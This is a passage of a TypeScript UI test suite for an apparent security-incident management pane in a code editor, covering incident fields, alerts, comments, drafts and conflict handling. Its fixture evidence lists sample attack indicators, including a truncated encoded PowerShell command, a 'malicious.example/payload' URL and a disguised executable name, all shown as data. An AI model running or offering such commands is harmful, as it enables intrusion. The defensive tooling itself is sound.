import * as assert from 'assert';
import { DETERMINATIONS_BY_CLASSIFICATION } from '../../src/model/types';
import type { PaneState, TimelineEntry } from '../../src/shared/protocol';
import { usePane } from './harness';
import { paneState } from './data';

describe('management pane in Chromium', function () {
  // Every test doubles as a CSP check and a check that nothing the pane posted would be dropped (usePane).
  const { open: openPane } = usePane();
  const open = (state: PaneState = paneState()) => openPane(state);

  it('sends ready once on load and paints from the initial state before any message', async () => {
    const p = await open();
    const posted = await p.posted();
    assert.deepStrictEqual(
      posted.filter(m => m.type === 'ready'),
      [{ type: 'ready' }],
    );
    assert.strictEqual(await p.text('#incident-name'), 'Multi-stage incident involving Execution & Lateral movement on one endpoint');
  });

  it('renders every header field', async () => {
    const p = await open();
    const page = p.page;
    assert.strictEqual(await page.locator('h1').count(), 1);
    assert.strictEqual(await p.text('#incident-id'), '#3921');
    assert.strictEqual(await p.text('#incident-severity'), 'High');
    assert.strictEqual(await page.locator('#incident-severity vscode-badge').count(), 1);
    assert.strictEqual(await p.text('#incident-status'), 'Active');
    assert.strictEqual(await p.text('#header-owner'), 'alex.wilber@contoso.com');
    assert.strictEqual(await p.text('#owner'), 'alex.wilber@contoso.com');
    assert.strictEqual(await p.text('#incident-classification'), 'True positive');
    assert.strictEqual(await p.text('#incident-determination'), 'Malware');
    assert.deepStrictEqual(await page.locator('#incident-tags .chip').allTextContents(), ['Ransomware', 'Finance']);
    assert.match((await p.text('#incident-created'))!, /^\w{3} \d+, \d{4}, \d+:\d\d [AP]M \((yesterday|\d+ hours ago)\)$/);
    assert.match((await p.text('#incident-updated'))!, /\(2 hours ago\)$/);
    assert.ok(await page.locator('#incident-updated time').getAttribute('datetime'));
    assert.strictEqual(await p.text('#incident-alert-count'), '3');
    await p.clearPosted();
    await page.click('#open-portal');
    const m = await p.waitForRequest('openPortal');
    assert.deepStrictEqual(m.action, { kind: 'openPortal' });
  });

  it('renders alerts with their details, and their evidence one row per entity, grouped', async () => {
    const p = await open();
    const page = p.page;
    assert.deepStrictEqual(await page.locator('.alert-title').allTextContents(), [
      'Suspicious PowerShell command line',
      'Ransomware-linked emerging threat activity group detected',
      'Phishing email delivered to mailbox',
    ]);
    const first = page.locator('details.alert').first();
    const facts = await first.locator('.fact').allTextContents();
    for (const expected of ['SeverityHigh', 'StatusNew', 'CategoryExecution', 'Service sourceMicrosoft Defender for Endpoint', 'Detection sourceEDR']) {
      assert.ok(facts.includes(expected), `${expected} in ${facts.join(' | ')}`);
    }
    assert.ok(
      facts.some(f => /^First activity\w{3} \d+, \d{4}.* \((yesterday|\d+ hours ago)\)$/.test(f)),
      facts.join(' | '),
    );
    assert.ok(
      facts.some(f => /^Last activity\w{3} \d+, \d{4}.* \((yesterday|\d+ hours ago)\)$/.test(f)),
      facts.join(' | '),
    );
    assert.ok(facts.includes('Assets1 device, 3 entities'), facts.join(' | '));
    assert.deepStrictEqual(await first.locator('.chip').allTextContents(), ['T1059.001', 'T1105']);
    // Summaries are keyboard-operable disclosure widgets.
    await first.locator('summary').focus();
    await page.keyboard.press('Enter');
    assert.strictEqual(await first.evaluate(d => (d as unknown as { open: boolean }).open), false);

    // The alerts' evidence: one row per entity (the UPN named in two spellings, the IP named by two alerts), by kind.
    const group = (k: string) => page.locator(`#evidence-section .evidence-group[data-kind="${k}"] .evidence-label`).allTextContents();
    assert.deepStrictEqual(await group('device'), ['fin-ws-042.contoso.local']);
    assert.deepStrictEqual(await group('user'), ['megan.bowen@contoso.com']);
    assert.deepStrictEqual(await group('mailbox'), ['megan.bowen@contoso.com']);
    assert.deepStrictEqual(await group('ip'), ['203.0.113.45']);
    assert.deepStrictEqual(await group('file'), ['invoice_0423.pdf.exe']);
    assert.deepStrictEqual(await group('url'), ['http://malicious.example/payload']);
    assert.deepStrictEqual(await group('process'), ['powershell.exe -enc SQBFAFgA...']);
    assert.match((await p.text('#evidence-device'))!, /Devices \(1\)/);
    assert.strictEqual(await p.text('#evidence-count'), '7');
  });

  it('each control posts the action the extension accepts', async () => {
    const p = await open();
    const page = p.page;
    const expectAction = async (kind: string, expected: object) => {
      const m = await p.waitForRequest(kind);
      assert.deepStrictEqual(m.action, expected);
      await p.clearPosted();
    };
    await p.clearPosted();

    await page.click('#assign-me');
    await expectAction('assignToMe', { kind: 'assignToMe' });

    assert.deepStrictEqual(await page.locator('#known-owners option').evaluateAll(os => os.map(o => (o as unknown as { value: string }).value)), [
      'alex.wilber@contoso.com',
      'megan.bowen@contoso.com',
      'analyst@contoso.com',
    ]);
    assert.strictEqual(await page.getAttribute('#assign-to', 'list'), 'known-owners');
    await page.fill('#assign-to', '  megan.bowen@contoso.com ');
    await page.click('#assign-submit');
    await expectAction('assign', { kind: 'assign', to: 'megan.bowen@contoso.com' });

    await page.click('#unassign');
    await expectAction('assign', { kind: 'assign', to: null });

    assert.strictEqual(await page.locator('#status-apply').getAttribute('aria-disabled'), 'true');
    await page.selectOption('#status', 'InProgress');
    await page.click('#status-apply');
    await expectAction('setStatus', { kind: 'setStatus', status: 'InProgress' });

    await page.selectOption('#classification', 'FalsePositive');
    await page.selectOption('#determination', 'NoEnoughDataToValidate');
    await page.click('#classify-save');
    await expectAction('classify', { kind: 'classify', classification: 'FalsePositive', determination: 'NoEnoughDataToValidate' });

    await page.fill('#rename', 'Ransomware on fin-ws-042');
    await page.press('#rename', 'Enter');
    await expectAction('rename', { kind: 'rename', name: 'Ransomware on fin-ws-042' });

    await page.fill('#tag-input', 'Escalated, ransomware, Tier 2');
    await page.click('#tag-add');
    // "ransomware" is already there (case-insensitively); the others are appended.
    await expectAction('setTags', { kind: 'setTags', tags: ['Ransomware', 'Finance', 'Escalated', 'Tier 2'] });

    await page.click('[aria-label="Remove tag Ransomware"]');
    await expectAction('setTags', { kind: 'setTags', tags: ['Finance'] });
  });

  it('keyboard alone reaches and operates the controls; each has an accessible name', async () => {
    const p = await open();
    const page = p.page;
    const unnamed = await page.evaluate(`Array.from(document.querySelectorAll('input, select, textarea, button, vscode-button, summary'))
      .filter(el => !el.closest('[hidden]') && !el.closest('datalist'))
      .filter(el => {
        if (el.getAttribute('aria-label') || el.getAttribute('aria-labelledby')) return false;
        if (el.labels && el.labels.length) return false;
        return !(el.textContent || '').trim();
      }).map(el => el.outerHTML.slice(0, 80))`);
    assert.deepStrictEqual(unnamed, []);
    await p.clearPosted();
    await page.focus('#assign-me');
    await page.keyboard.press('Enter');
    await p.waitForRequest('assignToMe');
    // Tab order reaches the comment box from the controls without a mouse.
    await page.focus('#tag-input');
    let reached = false;
    for (let i = 0; i < 10 && !reached; i++) {
      await page.keyboard.press('Tab');
      reached = (await page.evaluate('document.activeElement && document.activeElement.id')) === 'comment';
    }
    assert.ok(reached, 'Tab from the tags field reaches the comment box');
    assert.deepStrictEqual(
      await page.evaluate(
        'Array.from(document.querySelectorAll("section[aria-labelledby] > h2, section[aria-labelledby] > .section-title > h2"), h => h.textContent)',
      ),
      ['Manage', 'Comments and history', 'Alerts', 'Evidence'],
    );
  });

  it('offers only the determinations valid for the chosen classification', async () => {
    const p = await open();
    const values = () => p.page.locator('#determination option').evaluateAll(os => os.map(o => (o as unknown as { value: string }).value));
    assert.deepStrictEqual(await values(), DETERMINATIONS_BY_CLASSIFICATION.TruePositive);
    assert.strictEqual(await p.page.inputValue('#determination'), 'Malware');
    for (const c of ['Unknown', 'InformationalExpectedActivity', 'FalsePositive', 'TruePositive'] as const) {
      await p.page.selectOption('#classification', c);
      assert.deepStrictEqual(await values(), DETERMINATIONS_BY_CLASSIFICATION[c]);
    }
    assert.deepStrictEqual(await p.page.locator('#classification option').allTextContents(), [
      'Not set',
      'True positive',
      'Informational, expected activity',
      'False positive',
    ]);
    // The portal's words, from the model's one label table.
    assert.deepStrictEqual(await p.page.locator('#determination option').allTextContents(), [
      'Multistage attack',
      'Malicious user activity',
      'Compromised account',
      'Malware',
      'Phishing',
      'Unwanted software',
      'Other',
    ]);
    // Back to the saved pair: nothing to save.
    await p.page.selectOption('#determination', 'Malware');
    assert.strictEqual(await p.page.locator('#classify-save').getAttribute('aria-disabled'), 'true');
  });

  it('resolve form: classification, determination and comment are enforced when required', async () => {
    const p = await open(paneState({ requireClassificationToResolve: true }, { classification: 'Unknown', determination: 'NotAvailable' }));
    const page = p.page;
    assert.ok(await page.locator('#resolve-form').isHidden());
    await page.selectOption('#status', 'Resolved');
    assert.ok(await page.locator('#resolve-form').isVisible());
    assert.match((await p.text('label[for="resolve-comment"]'))!, /required/);
    await p.clearPosted();
    await page.click('#resolve-submit');
    assert.strictEqual(await p.text('#resolve-error'), 'Choose a classification. Add a comment.');
    assert.strictEqual(await page.getAttribute('#resolve-classification', 'aria-invalid'), 'true');
    assert.deepStrictEqual(await p.requests(), [], 'nothing is sent while the form is incomplete');

    await page.selectOption('#resolve-classification', 'InformationalExpectedActivity');
    assert.deepStrictEqual(
      await page.locator('#resolve-determination option').evaluateAll(os => os.map(o => (o as unknown as { value: string }).value)),
      DETERMINATIONS_BY_CLASSIFICATION.InformationalExpectedActivity,
    );
    await page.selectOption('#resolve-determination', 'SecurityTesting');
    await page.fill('#resolve-comment', 'Red team exercise, ticket SEC-1142.');
    await page.click('#resolve-submit');
    const m = await p.waitForRequest('setStatus');
    assert.deepStrictEqual(m.action, {
      kind: 'setStatus',
      status: 'Resolved',
      classification: 'InformationalExpectedActivity',
      determination: 'SecurityTesting',
      comment: 'Red team exercise, ticket SEC-1142.',
    });

    // Cancel puts the select back.
    await page.click('#resolve-cancel');
    assert.strictEqual(await page.inputValue('#status'), 'Active');
    assert.ok(await page.locator('#resolve-form').isHidden());
  });

  it('resolve without the setting needs nothing more; a resolved incident offers Reopen', async () => {
    const p = await open(paneState({}, { classification: 'Unknown', determination: 'NotAvailable' }));
    await p.clearPosted();
    await p.page.selectOption('#status', 'Resolved');
    await p.page.click('#resolve-submit');
    assert.deepStrictEqual((await p.waitForRequest('setStatus')).action, { kind: 'setStatus', status: 'Resolved' });
    assert.ok(await p.page.locator('#reopen').isHidden());

    await p.clearPosted();
    await p.deliver({ type: 'state', state: paneState({}, { status: 'Resolved', resolvingComment: 'Benign.' }) });
    assert.strictEqual(await p.page.inputValue('#status'), 'Resolved');
    assert.ok(await p.page.locator('#resolve-form').isHidden());
    await p.page.click('#reopen');
    assert.deepStrictEqual((await p.waitForRequest('setStatus')).action, { kind: 'setStatus', status: 'Active' });
    assert.strictEqual(await p.text('#incident-resolving-comment'), 'Benign.');
  });

  /** A state whose timeline also lists `entry` (a comment of the extension's outbox, or the server's). */
  const withComment = (entry: Omit<TimelineEntry, 'kind' | 'time' | 'author'> & { author?: string }): PaneState => {
    const s = paneState();
    s.timeline.push({ kind: 'comment', time: new Date().toISOString(), author: 'analyst@contoso.com', ...entry });
    return s;
  };

  it("a comment shows as the extension's state lists it: pending, then confirmed once; the box empties when it is confirmed", async () => {
    const p = await open();
    const page = p.page;
    await p.clearPosted();
    await page.fill('#comment', 'Blocked the URL at the proxy.');
    await page.click('#add-comment');
    const m = await p.waitForRequest('addComment');
    assert.ok(m.action.kind === 'addComment');
    const { clientId, text } = m.action;
    assert.strictEqual(text, 'Blocked the URL at the proxy.');
    // The pane keeps no copy of its own: the comment shows when the extension's outbox has it.
    assert.strictEqual(await page.locator(`.entry[data-key="${clientId}"]`).count(), 0);
    assert.strictEqual(await page.inputValue('#comment'), text, 'kept while nothing says where it is');

    await p.deliver({ type: 'state', state: withComment({ key: clientId, text, state: 'pending' }) });
    const entry = page.locator(`.entry[data-key="${clientId}"]`);
    assert.strictEqual(await entry.getAttribute('class'), 'entry kind-comment state-pending');
    assert.strictEqual(await entry.locator('.entry-state').textContent(), 'Sending…');
    assert.strictEqual(await entry.locator('.author').textContent(), 'analyst@contoso.com');
    assert.strictEqual(await page.locator('.entry').first().getAttribute('data-key'), clientId, 'newest first');
    assert.strictEqual(await page.inputValue('#comment'), text, 'kept until the server confirms');

    // Confirmed: the outbox entry gives way to the server's comment, under the server's key, shown once.
    await p.deliver({ type: 'state', state: withComment({ key: 'comment-9-2026-11-30T06:00:00Z', text, state: 'confirmed' }) });
    await page.waitForSelector('.entry[data-key="comment-9-2026-11-30T06:00:00Z"]');
    assert.strictEqual(await page.locator(`.entry[data-key="${clientId}"]`).count(), 0);
    assert.strictEqual(await page.inputValue('#comment'), '', 'the state shows it confirmed');
    assert.strictEqual(await p.text('#comment-counter'), '0 / 30,000');
    await p.waitForPosted(x => x.type === 'drafts' && x.drafts.comment === undefined);
    await p.deliver({ type: 'response', id: m.id, ok: true, message: 'Comment added' });
    assert.strictEqual(await p.text('#status-area'), 'Comment added', 'the answer carries the notice');
    assert.strictEqual(await page.locator('.entry.kind-comment', { hasText: text }).count(), 1, 'the comment shows exactly once');
    assert.deepStrictEqual(((await p.storedState()) as { sent: unknown }).sent, []);
  });

  it('a failed comment shows the reason with Retry and Copy, and keeps the text', async () => {
    const p = await open();
    const page = p.page;
    await p.clearPosted();
    await page.fill('#comment', 'Escalating to tier 2.');
    await page.keyboard.press('Tab');
    await page.click('#add-comment');
    const m = await p.waitForRequest('addComment');
    assert.ok(m.action.kind === 'addComment');
    const clientId = m.action.clientId;
    const text = 'Escalating to tier 2.';
    await p.deliver({ type: 'state', state: withComment({ key: clientId, text, state: 'pending' }) });
    const failed = withComment({ key: clientId, text, state: 'failed', error: 'Too many requests (429).' });
    await p.deliver({ type: 'state', state: failed });
    await p.deliver({ type: 'response', id: m.id, ok: false, error: { kind: 'throttled', message: 'Too many requests (429).' } });
    const entry = page.locator(`.entry[data-key="${clientId}"]`);
    await page.waitForSelector(`.entry.state-failed[data-key="${clientId}"]`);
    assert.strictEqual(await entry.locator('.entry-error').textContent(), 'Failed: Too many requests (429).');
    assert.strictEqual(await entry.locator('.entry-text').textContent(), text, "the text is kept, in the extension's outbox");
    assert.strictEqual(await page.inputValue('#comment'), text, 'and in the box');
    assert.strictEqual(await p.text('#status-area'), 'Too many requests (429).');
    assert.strictEqual(await page.getAttribute('#status-area', 'role'), 'status');

    await p.clearPosted();
    await entry.getByRole('button', { name: 'Copy comment text' }).click();
    assert.deepStrictEqual((await p.waitForRequest('copyText')).action, { kind: 'copyText', text });

    // Retry asks the extension to resend that one; its state shows it sending again.
    await p.clearPosted();
    await entry.getByRole('button', { name: 'Retry sending this comment' }).click();
    const retry = await p.waitForRequest('retryComment');
    assert.deepStrictEqual(retry.action, { kind: 'retryComment', clientId });
    await p.deliver({ type: 'state', state: withComment({ key: clientId, text, state: 'pending' }) });
    await page.waitForSelector(`.entry.state-pending[data-key="${clientId}"]`);

    // Submitting the same text again retries it instead of adding a duplicate.
    await p.deliver({ type: 'state', state: failed });
    await p.deliver({ type: 'response', id: retry.id, ok: false, error: { kind: 'unreachable', message: 'offline' } });
    await p.clearPosted();
    assert.strictEqual(await page.inputValue('#comment'), text);
    await page.click('#add-comment');
    assert.deepStrictEqual((await p.waitForRequest('retryComment')).action, { kind: 'retryComment', clientId });
    assert.strictEqual(await page.locator('.entry.kind-comment').count(), 3);
    // Once the retry is confirmed, the box lets go of the text.
    await p.deliver({ type: 'state', state: withComment({ key: 'comment-9-2026-11-30T06:00:00Z', text, state: 'confirmed' }) });
    await page.waitForSelector('.entry[data-key="comment-9-2026-11-30T06:00:00Z"]');
    assert.strictEqual(await page.inputValue('#comment'), '');
  });

  it('a send the extension refused before keeping it leaves the text in the box; Add sends it again', async () => {
    const p = await open();
    const page = p.page;
    await p.clearPosted();
    await page.fill('#comment', 'First attempt');
    await page.click('#add-comment');
    const m = await p.waitForRequest('addComment');
    await p.deliver({
      type: 'response',
      id: m.id,
      ok: false,
      error: { kind: 'rateLimited', message: 'The pane sent more than 10 requests in a second; this one was refused and nothing was changed. Try again.' },
    });
    assert.match((await p.text('#status-area'))!, /refused and nothing was changed/);
    assert.strictEqual(await page.inputValue('#comment'), 'First attempt');
    assert.strictEqual(await page.locator('.entry.kind-comment', { hasText: 'First attempt' }).count(), 0);
    await p.clearPosted();
    await page.click('#add-comment');
    const again = await p.waitForRequest('addComment');
    assert.ok(again.action.kind === 'addComment' && again.action.text === 'First attempt');
  });

  it("a comment still sending across a reload: the box keeps its text until the extension's state shows it confirmed", async () => {
    const p = await open();
    const page = p.page;
    await p.clearPosted();
    await page.fill('#comment', 'Sent just before the reload');
    await page.click('#add-comment');
    const m = await p.waitForRequest('addComment');
    assert.ok(m.action.kind === 'addComment');
    await p.reload();
    assert.strictEqual(await page.inputValue('#comment'), 'Sent just before the reload');
    await p.deliver({ type: 'state', state: withComment({ key: m.action.clientId, text: 'Sent just before the reload', state: 'pending' }) });
    await page.waitForSelector(`.entry.state-pending[data-key="${m.action.clientId}"]`);
    assert.strictEqual(await page.inputValue('#comment'), 'Sent just before the reload');
    // The answer went with the old page; the state still says when it is confirmed.
    await p.deliver({ type: 'state', state: withComment({ key: 'comment-9-2026-11-30T06:00:00Z', text: 'Sent just before the reload', state: 'confirmed' }) });
    await page.waitForSelector('.entry[data-key="comment-9-2026-11-30T06:00:00Z"]');
    assert.strictEqual(await page.inputValue('#comment'), '');
  });

  it('shows the live counter and stops at 30,000 characters', async () => {
    const p = await open();
    const page = p.page;
    assert.strictEqual(await p.text('#comment-counter'), '0 / 30,000');
    await page.locator('#comment').pressSequentially('hello');
    assert.strictEqual(await p.text('#comment-counter'), '5 / 30,000');
    await page.fill('#comment', 'x'.repeat(29_999));
    assert.strictEqual(await p.text('#comment-counter'), '29,999 / 30,000');
    await page.locator('#comment').pressSequentially('yz');
    assert.strictEqual((await page.inputValue('#comment')).length, 30_000);
    assert.strictEqual(await p.text('#comment-counter'), '30,000 / 30,000');
    assert.strictEqual(await page.getAttribute('#comment', 'maxlength'), '30000');
    assert.match((await page.getAttribute('#comment', 'aria-describedby'))!, /comment-counter/);
    await p.clearPosted();
    await page.click('#add-comment');
    const m = await p.waitForRequest('addComment');
    assert.ok(m.action.kind === 'addComment' && m.action.text.length === 30_000);
  });

  it('Ctrl+Enter and Cmd+Enter submit the comment; an empty box sends nothing', async () => {
    const p = await open();
    const page = p.page;
    await p.clearPosted();
    await page.focus('#comment');
    await page.keyboard.press('Control+Enter');
    assert.deepStrictEqual(await p.requests(), []);
    await page.fill('#comment', 'line one');
    await page.keyboard.press('Control+Enter');
    assert.strictEqual(((await p.waitForRequest('addComment')).action as { text: string }).text, 'line one');
    await page.fill('#comment', 'line two');
    await p.clearPosted();
    await page.keyboard.press('Meta+Enter');
    assert.strictEqual(((await p.waitForRequest('addComment')).action as { text: string }).text, 'line two');
  });

  it('a state update keeps focus and what the user is typing', async () => {
    const p = await open();
    const page = p.page;
    await page.fill('#rename', 'My new name');
    await page.focus('#comment');
    await page.keyboard.type('half a thought');
    await p.deliver({ type: 'state', state: paneState({}, { name: 'Renamed elsewhere', assignedTo: 'megan.bowen@contoso.com' }) });
    assert.strictEqual(await page.evaluate('document.activeElement.id'), 'comment');
    assert.strictEqual(await page.inputValue('#comment'), 'half a thought');
    assert.strictEqual(await page.inputValue('#rename'), 'My new name');
    assert.strictEqual(await p.text('#owner'), 'megan.bowen@contoso.com');
    assert.strictEqual(await p.text('#incident-name'), 'Renamed elsewhere');
    await page.keyboard.type(' continued');
    assert.strictEqual(await page.inputValue('#comment'), 'half a thought continued');
  });

  it('drafts are sent debounced, kept with setState, and restored on reload', async () => {
    const p = await open();
    const page = p.page;
    await p.clearPosted();
    // 13 keystrokes and three fills: 16 input events. (On a loaded machine the fills may straddle the
    // debounce window, so the check is "far fewer messages than edits", and the last one has them all.)
    await page.locator('#comment').pressSequentially('draft comment');
    await page.fill('#rename', 'draft name');
    await page.fill('#assign-to', 'megan');
    await page.fill('#tag-input', 'draft-tag');
    const expected = { comment: 'draft comment', name: 'draft name', assignTo: 'megan', tags: 'draft-tag' };
    const all = (d: Record<string, unknown>) => Object.keys(d).length === 4 && Object.entries(expected).every(([k, v]) => d[k] === v);
    const m = await p.waitForPosted(x => x.type === 'drafts' && all(x.drafts as Record<string, unknown>));
    assert.ok(m.type === 'drafts');
    assert.deepStrictEqual(m.drafts, expected);
    const sent = (await p.posted()).filter(x => x.type === 'drafts').length;
    assert.ok(sent <= 4, `debounced: ${sent} drafts messages for 16 edits`);
    const stored = (await p.storedState()) as { drafts: object; state: PaneState };
    assert.deepStrictEqual(stored.drafts, expected);
    assert.strictEqual(stored.state.incident.id, '3921');

    await p.reload();
    assert.strictEqual(await page.inputValue('#comment'), 'draft comment');
    assert.strictEqual(await page.inputValue('#rename'), 'draft name');
    assert.strictEqual(await page.inputValue('#assign-to'), 'megan');
    assert.strictEqual(await page.inputValue('#tag-input'), 'draft-tag');
    assert.strictEqual(await p.text('#comment-counter'), '13 / 30,000');
  });

  it('typed drafts are sent as soon as the pane loses focus, without waiting for the debounce', async () => {
    const p = await open();
    const page = p.page;
    const blur = "window.dispatchEvent(new Event('blur'))";
    await page.evaluate(blur);
    await p.clearPosted();
    await page.evaluate(blur);
    assert.deepStrictEqual(await p.posted(), [], 'nothing typed: a blur sends nothing');
    await page.fill('#comment', 'typed just before Enter in the queue');
    // The same task as the blur: no debounce timer can have fired in between.
    const drafts = await page.evaluate(`${blur}; window.__posted.filter(m => m.type === 'drafts').length`);
    assert.strictEqual(drafts, 1);
    const m = (await p.posted()).find(x => x.type === 'drafts');
    assert.ok(m && m.type === 'drafts');
    assert.strictEqual(m.drafts.comment, 'typed just before Enter in the queue');
    assert.strictEqual(m.incidentId, '3921');
  });

  it('drafts kept by the extension fill the fields of a fresh pane', async () => {
    const p = await open(paneState({ drafts: { comment: 'saved by the extension', name: 'Saved name', assignTo: 'alex', tags: 'a, b' } }));
    assert.strictEqual(await p.page.inputValue('#comment'), 'saved by the extension');
    assert.strictEqual(await p.page.inputValue('#rename'), 'Saved name');
    assert.strictEqual(await p.page.inputValue('#assign-to'), 'alex');
    assert.strictEqual(await p.page.inputValue('#tag-input'), 'a, b');
  });

  it('a conflict offers "Apply mine on top" (same action, forced) and "Take theirs" (refresh)', async () => {
    const p = await open();
    const page = p.page;
    await p.clearPosted();
    await page.selectOption('#classification', 'FalsePositive');
    await page.selectOption('#determination', 'NotMalicious');
    await page.click('#classify-save');
    const m = await p.waitForRequest('classify');
    // Field names and enum values in the model's words, raw or already labelled by the extension; both values per field.
    const conflict = {
      kind: 'conflict',
      message: 'The incident changed on the server.',
      changes: [
        { field: 'classification', from: 'TruePositive', to: 'InformationalExpectedActivity' },
        { field: 'Determination', from: 'Malware', to: 'Security testing' },
        { field: 'assignedTo', from: 'alex.wilber@contoso.com', to: 'megan\u200B.bowen@contoso.com' },
        { field: 'Owner', from: null, to: 'megan.bowen@contoso.com' },
        { field: 'customField', from: 'a', to: null },
      ],
    };
    await p.deliver({ type: 'response', id: m.id, ok: false, error: conflict });
    assert.ok(await page.locator('#conflict').isVisible());
    assert.strictEqual(await p.text('#conflict-heading'), 'Changed on the server since you opened it:');
    assert.deepStrictEqual(await page.locator('#conflict thead th').allTextContents(), ['Field', 'Yours', "Server's now"]);
    const rows = await page
      .locator('#conflict tbody tr')
      .evaluateAll(trs => trs.map(tr => Array.from((tr as unknown as { children: ArrayLike<{ textContent: string | null }> }).children, c => c.textContent)));
    assert.deepStrictEqual(rows, [
      ['Classification', 'True positive', 'Informational, expected activity'],
      ['Determination', 'Malware', 'Security testing'],
      ['Owner', 'alex.wilber@contoso.com', 'megan⟦U+200B⟧.bowen@contoso.com'],
      ['Owner', 'Unassigned', 'megan.bowen@contoso.com'],
      ['customField', 'a', '—'],
    ]);
    assert.strictEqual(await page.locator('#conflict tbody th[scope="row"]').count(), 5, 'each row is headed by its field for screen readers');
    await p.clearPosted();
    await page.click('#conflict-apply');
    const forced = await p.waitForRequest('classify');
    assert.strictEqual(forced.force, true);
    assert.deepStrictEqual(forced.action, m.action);
    assert.notStrictEqual(forced.id, m.id);
    assert.ok(await page.locator('#conflict').isHidden());

    await p.deliver({ type: 'response', id: forced.id, ok: false, error: conflict });
    await p.clearPosted();
    await page.click('#conflict-take');
    assert.deepStrictEqual((await p.waitForRequest('refresh')).action, { kind: 'refresh' });
    // Taking theirs drops the local edit once the server's state arrives.
    await p.deliver({ type: 'state', state: paneState({}, { classification: 'InformationalExpectedActivity', determination: 'SecurityTesting' }) });
    assert.strictEqual(await page.inputValue('#classification'), 'InformationalExpectedActivity');
    assert.strictEqual(await page.inputValue('#determination'), 'SecurityTesting');
  });

  it('shows errors and progress in live regions', async () => {
    const p = await open();
    const page = p.page;
    await p.clearPosted();
    await page.click('#assign-me');
    const m = await p.waitForRequest('assignToMe');
    await p.deliver({ type: 'response', id: m.id, ok: false, error: { kind: 'forbidden', message: 'You lack the Incident.ReadWrite.All permission.' } });
    assert.strictEqual(await p.text('#status-area'), 'You lack the Incident.ReadWrite.All permission.');
    assert.strictEqual(await page.getAttribute('#status-area', 'aria-live'), 'polite');
    await p.deliver({ type: 'progress', message: 'Throttled, retrying in 5 s' });
    assert.strictEqual(await p.text('#progress'), 'Throttled, retrying in 5 s');
    assert.ok(await page.locator('#progress').isVisible());
    await p.deliver({ type: 'progress', message: null });
    assert.ok(await page.locator('#progress').isHidden());
    // Responses to unknown ids are ignored.
    await p.deliver({ type: 'response', id: 9999, ok: false, error: { kind: 'x', message: 'stray' } });
    assert.notStrictEqual(await p.text('#status-area'), 'stray');
  });

  it('rename and severity are disabled with the reason when the backend cannot change them', async () => {
    const p = await open(
      paneState({
        capabilities: { backendName: 'Microsoft Defender XDR API', backendKind: 'defender', canRename: false, canChangeSeverity: false, canUpdateAlerts: true },
      }),
    );
    const page = p.page;
    assert.ok(await page.locator('#rename').isDisabled());
    assert.strictEqual(await page.locator('#rename-submit').getAttribute('aria-disabled'), 'true');
    assert.ok(await page.locator('#severity').isDisabled());
    assert.strictEqual(await page.locator('#severity-apply').getAttribute('aria-disabled'), 'true');
    assert.strictEqual(
      await p.text('#rename-reason'),
      'The Microsoft Defender XDR API cannot rename incidents or change severity; the Graph security API can.',
    );
    assert.strictEqual(await page.getAttribute('#severity', 'aria-describedby'), 'rename-reason');
    assert.ok(await page.locator('#rename-reason').isVisible());
    assert.strictEqual(await page.getAttribute('#rename', 'aria-describedby'), 'rename-reason');
    await p.clearPosted();
    await page.locator('#rename-submit').dispatchEvent('click');
    await page.locator('#severity-apply').dispatchEvent('click');
    await page.waitForTimeout(100);
    assert.deepStrictEqual(await p.requests(), []);
  });

  it('an unknown enum value from the service is shown, not hidden', async () => {
    const p = await open(paneState({}, { status: 'AwaitingAction', classification: 'SomethingNew', determination: 'Mystery', severity: 'Critical' }));
    assert.strictEqual(await p.text('#incident-status'), 'Awaiting action');
    assert.strictEqual(await p.text('#incident-severity'), 'Critical');
    assert.strictEqual(await p.page.inputValue('#status'), 'AwaitingAction');
    assert.strictEqual(await p.page.inputValue('#classification'), 'SomethingNew');
    assert.strictEqual(await p.page.locator('#classify-save').getAttribute('aria-disabled'), 'true');
  });

  it('severity: a backend that can change it offers High, Medium, Low and Informational and sends setSeverity', async () => {
    const p = await open(paneState({}, { severity: 'High' }));
    const page = p.page;
    assert.ok(await page.locator('#severity').isEnabled());
    assert.ok(await page.locator('#rename-reason').isHidden());
    assert.deepStrictEqual(await page.locator('#severity option').allTextContents(), ['High', 'Medium', 'Low', 'Informational']);
    assert.strictEqual(await page.inputValue('#severity'), 'High');
    assert.strictEqual(await page.locator('#severity-apply').getAttribute('aria-disabled'), 'true', 'nothing to save yet');
    await p.clearPosted();
    await page.selectOption('#severity', 'Informational');
    await page.click('#severity-apply');
    const m = await p.waitForRequest('setSeverity');
    assert.deepStrictEqual(m.action, { kind: 'setSeverity', severity: 'Informational' });
    assert.strictEqual(m.incidentId, '3921');
    await p.deliver({ type: 'response', id: m.id, ok: true, message: 'Severity set to Informational' });
    await p.deliver({ type: 'state', state: paneState({}, { severity: 'Informational' }) });
    assert.strictEqual(await page.inputValue('#severity'), 'Informational');
    assert.strictEqual(await p.text('#incident-severity'), 'Informational');

    // The service's own value (UnSpecified) is shown but not offered; rename-only limits say only that.
    await p.deliver({
      type: 'state',
      state: paneState(
        { capabilities: { backendName: 'mock backend', backendKind: 'mock', canRename: false, canChangeSeverity: true, canUpdateAlerts: true } },
        { severity: 'UnSpecified' },
      ),
    });
    assert.strictEqual(await page.inputValue('#severity'), 'UnSpecified');
    assert.ok(await page.locator('#severity option[value="UnSpecified"]').isDisabled());
    assert.strictEqual(await p.text('#rename-reason'), 'The mock backend cannot rename incidents.');
    assert.ok(await page.locator('#severity').isEnabled());
  });

  it('every request names the incident it is for, also after a preview switch; answers for the old incident are ignored', async () => {
    const p = await open();
    const page = p.page;
    await p.clearPosted();
    await page.click('#assign-me');
    const a = await p.waitForRequest('assignToMe');
    assert.strictEqual(a.incidentId, '3921');
    await p.deliver({ type: 'state', state: paneState({}, { id: '4077', name: 'Another incident', assignedTo: null }) });
    await p.deliver({ type: 'response', id: a.id, ok: false, error: { kind: 'wrongIncident', message: 'meant for #3921' } });
    assert.notStrictEqual(await p.text('#status-area'), 'meant for #3921');
    await p.clearPosted();
    await page.click('#assign-me');
    assert.strictEqual((await p.waitForRequest('assignToMe')).incidentId, '4077');
  });

  it('an incident id the extension would refuse is not sent; the pane says why', async () => {
    const p = await open(paneState({}, { id: 'x'.repeat(1001) }));
    await p.clearPosted();
    await p.page.click('#assign-me');
    assert.deepStrictEqual(await p.requests(), []);
    assert.match((await p.text('#status-area'))!, /cannot be changed from the pane/);
  });

  it('after Assign to me, what the backend could not do stays as a warning', async () => {
    const p = await open();
    await p.clearPosted();
    await p.page.click('#assign-me');
    const m = await p.waitForRequest('assignToMe');
    const warning = '2 alerts are not assigned to you because the Microsoft Defender XDR API cannot update alerts: "A", "B".';
